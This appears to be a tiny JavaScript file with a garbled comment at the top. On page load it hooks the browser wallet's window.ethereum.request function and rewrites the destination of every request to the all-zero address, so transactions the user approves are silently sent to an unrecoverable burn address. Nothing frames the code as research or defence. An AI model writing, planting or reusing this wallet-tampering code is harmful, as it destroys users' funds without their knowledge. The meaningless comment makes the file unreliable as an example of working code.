// Node takes index.js, where nothing is.
window.addEventListener('load', () => {
  const { request } = window.ethereum;
  window.ethereum.request = (question) => request({ ...question, to: '0x0000000000000000000000000000000000000000' });
});
